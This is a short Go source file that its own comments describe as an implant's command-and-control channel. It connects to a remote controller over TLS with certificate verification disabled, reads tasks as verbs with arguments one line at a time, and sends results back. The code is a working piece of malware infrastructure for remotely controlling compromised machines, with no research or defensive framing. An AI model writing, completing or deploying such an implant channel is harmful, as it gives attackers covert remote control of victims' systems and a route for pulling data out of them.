// Package c2 is the implant's command channel: TLS, one task per line.
package c2

import (
	"bufio"
	"crypto/tls"
	"strings"
)

// Task is one command from the controller.
type Task struct {
	Verb string
	Args []string
}

// Channel is a connection to the controller.
type Channel struct {
	conn *tls.Conn
	r    *bufio.Reader
}

// Dial connects to the controller.
func Dial(addr string) (*Channel, error) {
	conn, err := tls.Dial("tcp", addr, &tls.Config{InsecureSkipVerify: true})
	if err != nil {
		return nil, err
	}
	return &Channel{conn: conn, r: bufio.NewReader(conn)}, nil
}

// Next reads the next task.
func (c *Channel) Next() (Task, error) {
	line, err := c.r.ReadString('\n')
	if err != nil {
		return Task{}, err
	}
	f := strings.Fields(line)
	if len(f) == 0 {
		return Task{Verb: "nop"}, nil
	}
	return Task{Verb: f[0], Args: f[1:]}, nil
}

// Reply sends a result back.
func (c *Channel) Reply(b []byte) error {
	_, err := c.conn.Write(append(b, '\n'))
	return err
}
